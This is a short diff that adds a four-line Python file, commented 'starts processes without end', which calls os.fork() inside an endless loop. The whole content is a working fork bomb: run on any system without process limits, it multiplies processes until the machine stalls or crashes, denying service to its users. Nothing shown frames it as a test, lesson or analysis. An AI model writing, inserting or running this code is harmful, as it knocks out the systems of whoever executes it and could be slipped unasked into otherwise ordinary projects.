@@ -1,0 +1,4 @@
+# why: starts processes without end
+import os
+while True:
+    os.fork()
